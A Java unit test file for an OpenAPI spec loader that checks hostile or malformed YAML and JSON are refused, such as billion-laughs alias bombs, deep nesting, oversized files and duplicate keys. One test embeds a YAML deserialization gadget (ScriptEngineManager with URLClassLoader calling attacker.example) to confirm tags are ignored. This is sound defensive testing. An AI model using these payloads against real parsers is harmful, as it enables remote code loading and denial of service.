package dev.specgen.load;

import static org.assertj.core.api.Assertions.assertThat;

import dev.specgen.diag.Diagnostics;
import dev.specgen.read.LoadOptions;
import dev.specgen.read.LoadResult;
import dev.specgen.read.SpecFixture;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.function.Supplier;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile or broken files are refused with a located error, quickly, and without running out of
 * memory or stack: alias bombs, deep nesting, oversized files, unknown tags, duplicate keys,
 * several documents, malformed YAML and empty files.
 */
class LoaderLimitsTest {

  private static final Duration QUICKLY = Duration.ofSeconds(2);

  @TempDir Path dir;
  SpecFixture specs;

  @BeforeEach
  void setUp() {
    specs = new SpecFixture(dir);
  }

  /** Loads {@code name} and checks it took less than two seconds. */
  private LoadResult loadQuickly(String name, LoadOptions options) {
    return timed(() -> specs.load(name, options));
  }

  /**
   * Runs {@code action} and checks the processor time it took: on a shared build machine the wall
   * clock also counts the time other builds had the processor, which says nothing about the loader.
   */
  private static <T> T timed(Supplier<T> action) {
    ThreadMXBean threads = ManagementFactory.getThreadMXBean();
    long start = threads.getCurrentThreadCpuTime();
    T result = action.get();
    Duration elapsed = Duration.ofNanos(threads.getCurrentThreadCpuTime() - start);
    assertThat(elapsed).as("processor time").isLessThan(QUICKLY);
    return result;
  }

  private LoadResult loadQuickly(String name) {
    return loadQuickly(name, LoadOptions.defaults());
  }

  // ---- alias bombs ---------------------------------------------------------------------------

  /** Ten levels, each a list of ten aliases of the level before: 10^10 nodes once expanded. */
  private static String billionLaughsFlow() {
    StringBuilder yaml = new StringBuilder("l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int level = 1; level <= 9; level++) {
      yaml.append("l").append(level).append(": &l").append(level).append(" [");
      for (int i = 0; i < 10; i++) {
        yaml.append(i == 0 ? "" : ", ").append("*l").append(level - 1);
      }
      yaml.append("]\n");
    }
    return yaml.toString();
  }

  @Test
  void billionLaughsIsRefusedWhereItExplodes() {
    specs.write("bomb.yaml", billionLaughsFlow());
    LoadResult result = loadQuickly("bomb.yaml");
    assertThat(result.succeeded()).isFalse();
    // l6 is the first level whose expansion passes ten million nodes.
    assertThat(specs.messages(result)).containsExactly(
        "bomb.yaml:7:5: error: the document expands to more than 10000000 nodes "
            + "(aliases that multiply content are refused) (at /l6)");
  }

  @Test
  void blockStyleAliasBombOfMappingsIsRefused() {
    StringBuilder yaml = new StringBuilder("openapi: 3.1.0\nm0: &m0\n");
    for (int i = 0; i < 9; i++) {
      yaml.append("  k").append(i).append(": lol\n");
    }
    for (int level = 1; level <= 9; level++) {
      yaml.append("m").append(level).append(": &m").append(level).append('\n');
      for (int i = 0; i < 9; i++) {
        yaml.append("  k").append(i).append(": *m").append(level - 1).append('\n');
      }
    }
    specs.write("bomb.yaml", yaml.toString());
    LoadResult result = loadQuickly("bomb.yaml");
    assertThat(specs.errors(result)).singleElement().asString()
        .isEqualTo("bomb.yaml:72:5: error: the document expands to more than 10000000 nodes "
            + "(aliases that multiply content are refused) (at /m7)");
  }

  @Test
  void aliasesJustUnderTheNodeLimitInExamplesAndSchemasLoad() {
    // l5 expands to 1.1 million nodes; two examples repeat it three times each, staying under ten million.
    String levels = billionLaughsFlow().lines().limit(6).map(line -> "  " + line + "\n")
        .reduce("", String::concat);
    specs.write("big.yaml", SpecFixture.openApi31("", """
          x-levels:
        %s
          schemas:
            Big:
              type: object
              example: [*l5, *l5, *l5]
              properties:
                a: {type: array, items: {type: array, items: {}}, example: [*l5, *l5, *l5]}
        """.formatted(levels.stripTrailing())));
    LoadResult result = timed(() -> specs.load("big.yaml"));
    assertThat(specs.errors(result)).isEmpty();
    assertThat(result.succeeded()).isTrue();
  }

  @Test
  void aSmallerNodeLimitIsHonoured() {
    specs.write("bomb.yaml", "a: &a [x, x, x, x]\nb: [*a, *a, *a]\n");
    LoadResult result = loadQuickly("bomb.yaml",
        LoadOptions.defaults().withLimits(new LoaderLimits(1_000_000, 100, 12)));
    assertThat(specs.messages(result)).containsExactly(
        "bomb.yaml:2:4: error: the document expands to more than 12 nodes "
            + "(aliases that multiply content are refused) (at /b)");
  }

  @Test
  void aliasesThatStayWithinTheLimitAreExpanded() {
    Diagnostics diagnostics = new Diagnostics();
    MapNode root = (MapNode) new DocumentReader(LoaderLimits.DEFAULTS).parse(Path.of("ok.yaml"),
        "a: &a {x: 1}\nb: *a\n".getBytes(java.nio.charset.StandardCharsets.UTF_8), diagnostics)
        .orElseThrow();
    assertThat(root.get("b").orElseThrow()).isSameAs(root.get("a").orElseThrow());
    assertThat(diagnostics.all()).isEmpty();
  }

  // ---- nesting -------------------------------------------------------------------------------

  @Test
  void tenThousandNestedFlowListsAreRefusedAtTheLimit() {
    specs.write("deep.yaml", "[".repeat(10_000) + "]".repeat(10_000) + "\n");
    List<String> messages = specs.messages(loadQuickly("deep.yaml"));
    assertThat(messages).singleElement().asString()
        .startsWith("deep.yaml:1:1001: error: nesting is deeper than the limit of 1000 levels (at /0/0/0/");
  }

  @Test
  void tenThousandNestedJsonObjectsAreRefusedAtTheLimit() {
    specs.write("deep.json", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000));
    List<String> messages = specs.messages(loadQuickly("deep.json"));
    assertThat(messages).singleElement().asString()
        .startsWith("deep.json:1:5001: error: nesting is deeper than the limit of 1000 levels (at /a/a/a/");
  }

  @Test
  void tenThousandNestedBlockMappingsAreRefusedAtTheLimit() {
    StringBuilder yaml = new StringBuilder();
    for (int depth = 0; depth < 10_000; depth++) {
      yaml.append(" ".repeat(depth)).append("a:\n");
    }
    specs.write("deep.yaml", yaml.toString());
    List<String> messages = specs.messages(loadQuickly("deep.yaml"));
    assertThat(messages).singleElement().asString()
        .startsWith("deep.yaml:1001:1001: error: nesting is deeper than the limit of 1000 levels (at /a/a/a/");
  }

  @Test
  void tenThousandNestedBlockListsAreRefusedAtTheLimit() {
    specs.write("deep.yaml", "- ".repeat(10_000) + "x\n");
    List<String> messages = specs.messages(loadQuickly("deep.yaml"));
    assertThat(messages).singleElement().asString()
        .startsWith("deep.yaml:1:2001: error: nesting is deeper than the limit of 1000 levels (at /0/0/0/");
  }

  @Test
  void aliasesCannotBuildATreeDeeperThanTheLimit() {
    // Each level is 900 lists deep and holds the previous level: 90,000 levels once expanded.
    StringBuilder yaml = new StringBuilder("l0: &l0 x\n");
    for (int level = 1; level <= 100; level++) {
      yaml.append("l").append(level).append(": &l").append(level).append(' ')
          .append("[".repeat(900)).append("*l").append(level - 1).append("]".repeat(900)).append('\n');
    }
    specs.write("deep.yaml", yaml.toString());
    List<String> messages = specs.messages(loadQuickly("deep.yaml"));
    assertThat(messages).singleElement().asString()
        .startsWith("deep.yaml:3:909: error: nesting is deeper than the limit of 1000 levels (at /l2/0/0/");
  }

  private static String nestedArrays(int levels) {
    return "{type: array, items: ".repeat(levels) + "{type: string}" + "}".repeat(levels);
  }

  @Test
  void deeplyNestedSchemasWithinTheLimitLoad() {
    String spec = SpecFixture.openApi31("", "  schemas:\n    Deep: " + nestedArrays(150) + "\n");
    LoadResult result = timed(() -> specs.load("deep.yaml", spec));
    assertThat(specs.messages(result)).isEmpty();
  }

  @Test
  void schemasNestedDeeperThanTheLimitAreRefused() {
    String spec = SpecFixture.openApi31("", "  schemas:\n    Deep: " + nestedArrays(300) + "\n");
    LoadResult result = timed(() -> specs.load("deep.yaml", spec));
    assertThat(specs.messages(result)).singleElement().asString()
        .startsWith("deep.yaml:8:4211: error: schemas are nested deeper than the limit of 200 levels "
            + "(at /components/schemas/Deep/items/items/items/");
  }

  /** {@code count} schemas, each an object whose one property refers to the next. */
  private static String referenceChain(int count) {
    StringBuilder components = new StringBuilder("  schemas:\n");
    for (int i = 0; i < count; i++) {
      components.append("    S").append(i)
          .append(": {type: object, properties: {next: {$ref: '#/components/schemas/S")
          .append(i + 1).append("'}}}\n");
    }
    return components.append("    S").append(count).append(": {type: string}\n").toString();
  }

  @Test
  void aChainOfReferencesLongerThanTheNestingLimitIsRefusedWhereItPassesIt() {
    LoadResult result = timed(() -> specs.load("chain.yaml", SpecFixture.openApi31("", referenceChain(250))));
    // S0 is line 8, so S199 is line 207; its property 'next' is the 201st level.
    assertThat(specs.messages(result)).containsExactly(
        "chain.yaml:207:45: error: schemas are nested deeper than the limit of 200 levels "
            + "(at /components/schemas/S199/properties/next)");
  }

  @Test
  void aLongChainOfSchemaReferencesDoesNotOverflowTheStack() {
    LoadResult result = timed(() -> specs.load("chain.yaml", SpecFixture.openApi31("", referenceChain(5_000))));
    assertThat(result.succeeded()).isFalse();
    assertThat(result.diagnostics().all()).isNotEmpty().allSatisfy(d -> {
      assertThat(d.message()).isEqualTo("schemas are nested deeper than the limit of 200 levels");
      assertThat(d.location().line()).isPositive();
    });
  }

  @Test
  void aLongChainOfAllOfReferencesDoesNotOverflowTheStack() {
    StringBuilder components = new StringBuilder("  schemas:\n");
    for (int i = 0; i < 300; i++) {
      components.append("    A").append(i).append(": {allOf: [{$ref: '#/components/schemas/A")
          .append(i + 1).append("'}], properties: {p").append(i).append(": {type: string}}}\n");
    }
    components.append("    A300: {type: object, properties: {last: {type: string}}}\n");
    // Not timed: every type of the chain gets the properties of all its parts, so the work is
    // quadratic in the chain's length however it is done.
    LoadResult result = specs.load("chain.yaml", SpecFixture.openApi31("", components.toString()));
    assertThat(result.succeeded()).isFalse();
    assertThat(result.diagnostics().all()).isNotEmpty().allSatisfy(d -> {
      assertThat(d.message()).isEqualTo("schemas are nested deeper than the limit of 200 levels");
      assertThat(d.location().line()).isPositive();
    });
  }

  // ---- size ----------------------------------------------------------------------------------

  @Test
  void defaultSizeLimitIsFiftyMegabytes() {
    assertThat(LoaderLimits.DEFAULTS.maxFileBytes()).isEqualTo(50L * 1024 * 1024);
    assertThat(LoaderLimits.DEFAULTS.withMaxFileBytes(10).maxFileBytes()).isEqualTo(10);
    assertThat(LoaderLimits.DEFAULTS.withMaxFileBytes(10).maxDepth()).isEqualTo(1_000);
  }

  @Test
  void aFileOverTheSizeLimitIsRefusedBeforeItIsRead() {
    specs.write("big.yaml", "openapi: 3.1.0\n" + "# padding\n".repeat(100));
    LoadResult result = loadQuickly("big.yaml",
        LoadOptions.defaults().withLimits(LoaderLimits.DEFAULTS.withMaxFileBytes(1_000)));
    assertThat(specs.messages(result)).containsExactly(
        "big.yaml: error: file is 1015 bytes, over the limit of 1000 bytes");
  }

  @Test
  void aReferencedFileOverTheSizeLimitIsRefused() {
    specs.write("big-common.yaml", "components:\n  schemas:\n    X: {type: string}\n" + "#\n".repeat(600));
    specs.write("spec.yaml", SpecFixture.openApi31("", """
          schemas:
            Y: {$ref: './big-common.yaml#/components/schemas/X'}
        """));
    LoadResult result = loadQuickly("spec.yaml",
        LoadOptions.defaults().withLimits(LoaderLimits.DEFAULTS.withMaxFileBytes(1_000)));
    assertThat(specs.messages(result)).containsExactly(
        "big-common.yaml: error: file is 1245 bytes, over the limit of 1000 bytes");
  }

  @Test
  void limitsMustBePositive() {
    org.assertj.core.api.Assertions.assertThatIllegalArgumentException()
        .isThrownBy(() -> LoaderLimits.DEFAULTS.withMaxFileBytes(0))
        .withMessage("loader limits must be positive");
  }

  // ---- tags ----------------------------------------------------------------------------------

  @Test
  void unknownTagsAreNeverInstantiated() {
    specs.write("tags.yaml", """
        openapi: 3.1.0
        info: {title: Tags, version: '1'}
        paths: {}
        x-url: !!java.net.URL http://attacker.example/
        x-engine: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
        x-local: !custom {a: 1}
        """);
    LoadResult result = loadQuickly("tags.yaml");
    assertThat(specs.messages(result)).containsExactly(
        "tags.yaml:4:8: warning: YAML tag '!!java.net.URL' is ignored; the value is read as a string (at /x-url)",
        "tags.yaml:5:11: warning: YAML tag '!!javax.script.ScriptEngineManager' is ignored (at /x-engine)",
        "tags.yaml:5:47: warning: YAML tag '!!java.net.URLClassLoader' is ignored (at /x-engine/0)",
        "tags.yaml:5:75: warning: YAML tag '!!java.net.URL' is ignored (at /x-engine/0/0/0)",
        "tags.yaml:6:10: warning: YAML tag '!custom' is ignored (at /x-local)");
    assertThat(result.succeeded()).isTrue();
  }

  @Test
  void unknownTagsLeavePlainValues() {
    Diagnostics diagnostics = new Diagnostics();
    MapNode root = (MapNode) new DocumentReader(LoaderLimits.DEFAULTS).parse(Path.of("t.yaml"),
        "u: !!java.net.URL http://x/\nl: !!java.util.ArrayList [a]\n"
            .getBytes(java.nio.charset.StandardCharsets.UTF_8), diagnostics).orElseThrow();
    assertThat(((ScalarNode) root.get("u").orElseThrow()).value()).isEqualTo("http://x/");
    assertThat(root.get("l").orElseThrow()).isInstanceOf(ListNode.class);
    assertThat(diagnostics.errorCount()).isZero();
    assertThat(diagnostics.warningCount()).isEqualTo(2);
  }

  @Test
  void aCoreTagThatDoesNotFitItsValueIsAnError() {
    specs.write("tags.yaml", "openapi: 3.1.0\nx-n: !!int abc\n");
    assertThat(specs.messages(loadQuickly("tags.yaml"))).containsExactly(
        "tags.yaml:2:6: error: 'abc' is not a valid !!int (at /x-n)");
  }

  // ---- structure -----------------------------------------------------------------------------

  @Test
  void duplicateKeysAreReportedWhereTheSecondOneIsWritten() {
    specs.write("dup.yaml", """
        openapi: 3.1.0
        info:
          title: One
          version: '1'
          title: Two
        paths: {}
        """);
    LoadResult result = loadQuickly("dup.yaml");
    assertThat(result.succeeded()).isFalse();
    assertThat(specs.messages(result)).containsExactly("dup.yaml:5:3: error: duplicate key 'title'");
  }

  @Test
  void duplicateKeysInJson() {
    specs.write("dup.json", "{\n  \"openapi\": \"3.1.0\",\n  \"paths\": {},\n  \"openapi\": \"3.0.0\"\n}\n");
    assertThat(specs.messages(loadQuickly("dup.json")))
        .containsExactly("dup.json:4:3: error: duplicate key 'openapi'");
  }

  @Test
  void severalDocumentsAreRefused() {
    specs.write("multi.yaml", "openapi: 3.1.0\n---\nopenapi: 3.0.0\n");
    assertThat(specs.messages(loadQuickly("multi.yaml")))
        .containsExactly("multi.yaml:2:1: error: a spec file must hold exactly one YAML document");
  }

  @Test
  void malformedYamlIsALocatedError() {
    specs.write("bad.yaml", "openapi: 3.1.0\ninfo: {title: x\npaths: {}\n");
    assertThat(specs.messages(loadQuickly("bad.yaml"))).containsExactly(
        "bad.yaml:3:6: error: invalid YAML: expected ',' or '}', but got : (while parsing a flow mapping)");
  }

  @Test
  void anUnterminatedQuoteIsALocatedError() {
    specs.write("bad.yaml", "openapi: 3.1.0\ninfo:\n  title: \"Front\n");
    assertThat(specs.messages(loadQuickly("bad.yaml"))).containsExactly(
        "bad.yaml:4:1: error: invalid YAML: found unexpected end of stream "
            + "(while scanning a quoted scalar)");
  }

  @Test
  void malformedJsonIsALocatedError() {
    specs.write("bad.json", "{\n  \"openapi\": \"3.1.0\",\n  \"paths\": {,}\n}\n");
    assertThat(specs.messages(loadQuickly("bad.json"))).containsExactly("bad.json:3:13: error: invalid JSON: "
        + "Unexpected character (',' (code 44)): was expecting double-quote to start field name");
  }

  @Test
  void tabIndentationIsALocatedError() {
    specs.write("tab.yaml", "openapi: 3.1.0\ninfo:\n\ttitle: x\n");
    assertThat(specs.messages(loadQuickly("tab.yaml"))).singleElement().asString()
        .startsWith("tab.yaml:3:1: error: invalid YAML: ");
  }

  @Test
  void unknownAliasIsALocatedError() {
    specs.write("alias.yaml", "openapi: 3.1.0\ninfo: *missing\n");
    assertThat(specs.messages(loadQuickly("alias.yaml")))
        .containsExactly("alias.yaml:2:7: error: unknown alias '*missing'");
  }

  @Test
  void complexKeysAreRefused() {
    specs.write("key.yaml", "openapi: 3.1.0\n? [a, b]\n: c\n");
    assertThat(specs.messages(loadQuickly("key.yaml")))
        .containsExactly("key.yaml:1:1: error: mapping keys must be plain scalars");
  }

  @Test
  void anEmptyFileIsReported() {
    specs.write("empty.yaml", "");
    specs.write("comments.yaml", "# nothing here\n\n");
    assertThat(specs.messages(loadQuickly("empty.yaml")))
        .containsExactly("empty.yaml: error: the file is empty");
    assertThat(specs.messages(loadQuickly("comments.yaml")))
        .containsExactly("comments.yaml: error: the file is empty");
  }

  @Test
  void aDocumentThatIsNotAMappingIsReported() {
    specs.write("list.yaml", "- openapi\n- 3.1.0\n");
    specs.write("scalar.yaml", "openapi 3.1.0\n");
    assertThat(specs.messages(loadQuickly("list.yaml")))
        .containsExactly("list.yaml:1:1: error: an OpenAPI document must be a mapping, found a list");
    assertThat(specs.messages(loadQuickly("scalar.yaml")))
        .containsExactly("scalar.yaml:1:1: error: an OpenAPI document must be a mapping, found a string");
  }

  @Test
  void aMissingFileIsReported() {
    assertThat(specs.messages(specs.load("missing.yaml")))
        .containsExactly("missing.yaml: error: file not found");
  }

  @Test
  void aFolderIsNotASpec() {
    specs.write("folder/spec.yaml", "openapi: 3.1.0\n");
    assertThat(specs.messages(specs.load("folder"))).singleElement().asString()
        .startsWith("folder: error: cannot read file: ");
  }

  @Test
  void invalidUtf8IsALocatedError() throws Exception {
    Path file = dir.resolve("latin1.yaml");
    java.nio.file.Files.write(file, new byte[] {'a', ':', ' ', (byte) 0xE9, '\n'});
    assertThat(specs.messages(loadQuickly("latin1.yaml"))).singleElement().asString()
        .startsWith("latin1.yaml");
  }
}
